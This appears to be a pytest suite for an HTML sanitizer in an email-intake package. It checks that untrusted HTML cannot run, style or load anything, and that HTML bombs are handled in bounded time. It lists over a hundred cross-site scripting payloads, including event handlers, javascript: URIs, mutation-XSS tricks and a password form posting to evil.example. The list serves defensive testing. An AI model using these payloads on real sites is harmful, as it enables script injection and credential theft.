"""Untrusted HTML can't run, style or load anything; its text stays readable."""

import html
import re
from html.parser import HTMLParser

import pytest

from channels_intake.mime.sanitize import MAX_HTML_CHARS, html_to_text, sanitize, sanitize_html
from tests.effort import run_within

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script <b>alert(1)</b></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#112&#116"
    "&#0000058alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14; javascript:alert(1);">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img alt="<img src=x onerror=alert(1)>" src="cid:x">',
    '<img src="cid:x&quot; onerror=&quot;alert(1)">',
    '<img src="cid:x%22%20onerror=%22alert(1)">',
    '<img src="https://x.example/&quot;onerror=&quot;alert(1)">',
    '<img src="https://x.example/a.png" alt="&quot;><script>alert(1)</script>">',
    '<img srcset="https://evil.example/x 1x" src="cid:x">',
    '<img data-cid="x" data-src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerr'
        'or=alert(1)&gt;">'
    ),
    '<math href="javascript:alert(1)">x</math>',
    (
        '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:al'
        'ert(1)">x</maction></math>'
    ),
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=//evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="cid:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    '<a href="https://x.example" onclick="alert(1)">x</a>',
    '<a href="https://x.example" target="_self" rel="opener">x</a>',
    '<a href="https://x.example" style="position:fixed;inset:0">x</a>',
    '<a href="https://x.example"onmouseover="alert(1)">x</a>',
    '<a onfocus=alert(1) autofocus tabindex=1 href="#">x</a>',
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<textarea></textarea><script>alert(1)</script>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<link rel="icon" href="https://evil.example/x">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div class="agent-toolbar" id="reply" data-hx-get="/x" hx-get="/x" hx-trigger="load">x</div>',
    '<span data-src="javascript:alert(1)">x</span>',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=script-src>",
    "<base href=https://evil.example/>",
    "<video><source onerror=alert(1)></video>",
    "<video src=https://evil.example/x poster=https://evil.example/y></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    (
        "<table background='javascript:alert(1)'><tr><td background=https://evil.example/x>x"
        "</td></tr></table>"
    ),
    "<frameset onload=alert(1)><frame src=x></frameset>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<x onclick=alert(1)>x</x>",
    "<p onclick=alert(1) ONCLICK=alert(1) oNcLiCk =alert(1)>x",
    "<b/onclick=alert(1)>x</b>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<p a='><script>alert(1)</script>'>x</p>",
    "<p a=\"'><script>alert(1)</script>",
    "<td colspan='1\" onclick=\"alert(1)'>x</td>",
    "<td colspan=999999999>x</td>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<a href='https://x.example/?a=1&lt;script&gt;'>x</a>",
    "<img src=https://track.example/p.gif width=1 height=1>",
    "<img src=//track.example/p.gif>",
    "<img src=cid:logo%0d%0aX: y>",
]

SAFE_ATTRIBUTES = {
    "href",
    "data-src",
    "data-cid",
    "alt",
    "rel",
    "target",
    "colspan",
    "rowspan",
    "start",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")
UNSAFE_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "select",
    "link", "meta", "base", "svg", "math", "video", "audio", "template", "noscript", "title",
    "frame", "body", "x",
}  # fmt: skip


class Reader(HTMLParser):
    """An independent parser of the result: the tags with their attributes, and the text."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment got through")


def check_harmless(result: str) -> None:
    """Assert that nothing in the result runs, styles, submits or loads."""
    for tag, attributes in Reader(result).tags:
        assert tag not in UNSAFE_TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES
        for name in ("href", "data-src"):
            assert attributes.get(name, "https:").lower().startswith(SAFE_SCHEMES)
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow ugc"
            assert attributes["target"] == "_blank"
        if tag == "img":
            assert re.fullmatch(r"[^\s\"'<>]+", attributes["data-cid"])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_becomes_harmless(payload):
    check_harmless(sanitize_html(payload))
    check_harmless(sanitize_html(f"<p>before</p>{payload}<p>after</p>"))
    check_harmless(sanitize_html(f'<div title="{payload}">{payload}</div>'))
    check_harmless(sanitize_html(f"<table><tr><td>{payload}"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_second_pass_changes_nothing_that_matters(payload):
    once = sanitize_html(payload)
    check_harmless(sanitize_html(once))
    assert (
        Reader(sanitize_html(once)).text == Reader(once).text
        or "data-src" in once
        or "data-cid" in once
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_text_of_a_payload_is_given_without_error(payload):
    assert isinstance(html_to_text(payload), str)


def test_there_are_more_than_a_hundred_payloads():
    assert len(set(PAYLOADS)) > 100


def test_ordinary_formatting_survives():
    source = (
        "<h2>Title</h2><p>Some <b>bold</b>, <em>soft</em> and <code>code</code>.<br>Next</p>"
        "<ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote>"
        '<table><tbody><tr><th rowspan="2">a</th><td colspan="2">b</td></tr></tbody></tab'
        "le><pre>x\n  y</pre>"
    )
    assert sanitize_html(source) == source


def test_text_around_unknown_tags_survives():
    assert (
        sanitize_html("<o:p>Hello <font color=red>red</font> <custom-tag>x</custom-tag></o:p>")
        == "Hello red x"
    )


def test_entities_survive_once():
    assert (
        sanitize_html("<p>1 &lt; 2 &amp;&amp; &quot;a&quot; &eacute; &nbsp;</p>")
        == '<p>1 &lt; 2 &amp;&amp; "a" é &nbsp;</p>'
    )


def test_a_link_opens_in_a_new_tab_without_a_referrer():
    assert sanitize_html(
        '<a href="https://x.example/?a=1&b=2" class="c" id="i" name="n">here</a>'
    ) == (
        '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferre'
        'r nofollow ugc">here</a>'
    )


@pytest.mark.parametrize(
    "target", ["/agent/logout", "#top", "?a=b", "//evil.example", "x.html", "..", "", "http:x"]
)
def test_a_link_into_our_own_pages_loses_its_target(target):
    assert "href" not in sanitize_html(f'<a href="{target}">x</a>')


def test_an_attached_image_waits_for_our_own_copy():
    assert (
        sanitize_html('<img src="cid:logo%40acme" alt="Logo" width="20">')
        == '<img data-cid="logo@acme" alt="Logo">'
    )


def test_a_remote_image_becomes_a_link_and_inside_a_link_a_span():
    alone = sanitize_html('<p><img src="https://x.example/a.png" alt="Chart"></p>')
    assert alone == (
        '<p><a href="https://x.example/a.png" data-src="https://x.example/a.png" target="_blank" '
        'rel="noopener noreferrer nofollow ugc">[Chart]</a></p>'
    )
    linked = Reader(
        sanitize_html('<a href="https://x.example"><img src="https://x.example/a.png"></a>')
    )
    assert linked.tags[1] == ("span", {"data-src": "https://x.example/a.png"})
    assert linked.text == "[a.png]"


@pytest.mark.parametrize(
    "pixel", ["width=1 height=1", "width=0", 'height="1px"', "width=2 height=2"]
)
def test_a_tracking_pixel_is_removed(pixel):
    assert sanitize_html(f"<img src=https://track.example/p.gif alt=x {pixel}>") == ""


def test_badly_nested_tags_come_out_well_nested():
    assert sanitize_html("<b><i>x</b>y</i></p></div>z") == "<b><i>x</i></b>yz"
    assert sanitize_html("<ul><li>a<li>b</ul>c") == "<ul><li>a</li><li>b</li></ul>c"


def test_html_that_is_too_long_is_cut_and_says_so():
    result = sanitize_html("<p>word</p>" * 200_000)
    assert len(result) < MAX_HTML_CHARS + 1_000
    assert result.endswith("<p>word</p><p>[…]</p>")


def test_only_html_that_was_cut_says_so():
    assert sanitize("<p>word</p>" * 200_000).is_cut
    assert not sanitize("<p>word</p><p>[…]</p>").is_cut


@pytest.mark.parametrize(
    ("address", "name"),
    [
        ("https://x.example/img/logo%20big.png?v=2", "[logo big.png]"),
        ("https://x.example/", "[x.example]"),
        ("https://x.example", "[x.example]"),
        ("https://[x.example/a.png", "[…]"),
        ("https://x.example/%3Cb%3E", "[&lt;b&gt;]"),
    ],
)
def test_a_remote_image_without_a_text_shows_its_name(address, name):
    assert f">{name}</a>" in sanitize_html(f'<img src="{address}">')


SIZE = 1_000_000
BOMBS = {
    "nested blocks": "<div>" * (SIZE // 5),
    "nested lists": "<ul><li>" * (SIZE // 8),
    "nested tables": "<table><tr><td>" * (SIZE // 15),
    "unclosed formatting": "".join(f"<b a={n}><p>" for n in range(60_000)),
    "links": "<a href=https://x.example>" * (SIZE // 26),
    "attributes": "<a " + " ".join(f"a{n}" for n in range(140_000)) + ">",
    "open brackets": "<" * SIZE,
    "open tags": "<a" * (SIZE // 2),
    "open comments": "<!--" * (SIZE // 4),
    "open quotes": '<a b="' * (SIZE // 6),
    "mixed quotes": "<a b=\"'" * (SIZE // 7),
    "open styles": "<style>" * (SIZE // 7),
    "open scripts": "<script>" * (SIZE // 8),
    "ampersands": "&" * SIZE,
    "numbers": "&#" + "9" * SIZE,
    "entities": "&nbsp;" * (SIZE // 6),
    "spaces in a tag": "<a" + " " * SIZE,
    "equals signs": "<a " + "= " * (SIZE // 2),
    "paragraphs": "<p>x" * (SIZE // 4),
    "quotations": "<blockquote>x" * (SIZE // 13),
    "preformatted": "<pre>\n\n</pre>" * (SIZE // 13),
    "data addresses": "data:" * (SIZE // 5),
    "closing tags": "</p>" * (SIZE // 4),
    "misnested": "<b><i><u></b></i>" * (SIZE // 17),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_defused_in_bounded_time_and_space(name):
    assert len(run_within(400, sanitize_html, BOMBS[name])) < 10 * MAX_HTML_CHARS
    assert len(run_within(400, html_to_text, BOMBS[name])) < 2 * SIZE


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>a</p><p>b</p>", "a\n\nb"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("<div>a<div>b</div></div>c", "a\nb\nc"),
        ("  a \n  b  ", "a b"),
        ("<ul><li>a</li><li>b</li></ul>c", "- a\n- b\n\nc"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<blockquote>a<br>b</blockquote>c", "> a\n> b\n\nc"),
        ("<blockquote><p>a</p><blockquote>b</blockquote></blockquote>", "> a\n>\n>> b"),
        ('<a href="https://x.example/y">text</a>', "text <https://x.example/y>"),
        ('<a href="https://x.example/">x.example</a>', "x.example"),
        ('<a href="mailto:a@x.example">a@x.example</a>', "a@x.example"),
        ('<a href="javascript:alert(1)">text</a>', "text"),
        ('<img src="cid:x" alt="Logo">', "[Logo]"),
        ("a<hr>b", "a\n\n---\nb"),
        ("<style>p{}</style><title>t</title><script>s</script>a<!-- c -->", "a"),
        ("1 &lt; 2 &amp; &euro;", "1 < 2 & €"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("<p>a<p>b", "a\n\nb"),
        ("<a title='x > y'>t</a>", "t"),
        ("cut <b", "cut <b"),
        ("", ""),
    ],
)
def test_html_reads_as_text(source, text):
    assert html_to_text(source) == text


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("scan 7.JPG", "scan 7.JPG"),
        ("./fax.png", "fax.png"),
        ("Gr%C3%B6%C3%9Fe.gif", "Größe.gif"),
        ("cid:1@x", "1@x"),
    ],
)
def test_an_attached_image_is_found_by_its_bare_name(source, name):
    assert sanitize_html(f'<img src="{source}">') == f'<img data-cid="{name}" alt="">'


@pytest.mark.parametrize(
    "source", ["a/b.png", "x.png?y=1", "ftp:a.png", "//a.png", "x.php", "..png/"]
)
def test_a_relative_address_is_no_attached_image(source):
    assert "img" not in sanitize_html(f'<p>a</p><img src="{source}">')


@pytest.mark.parametrize("sign", ["&", "<", ">", '"', "'"])
def test_the_limit_counts_what_was_written_before_escaping(sign):
    escaped = html.escape(sign)
    whole = sanitize(f"<p>{escaped * 200_000}</p>")

    assert not whole.is_cut
    assert html_to_text(whole.html).count(sign) == 200_000


def test_a_source_that_is_cut_unread_says_so():
    comment = "<!--" + "x" * 2_100_000 + "-->"
    assert sanitize(f"{comment}<p>The end</p>").is_cut
    assert sanitize(f"<p>The beginning</p>{comment}").is_cut
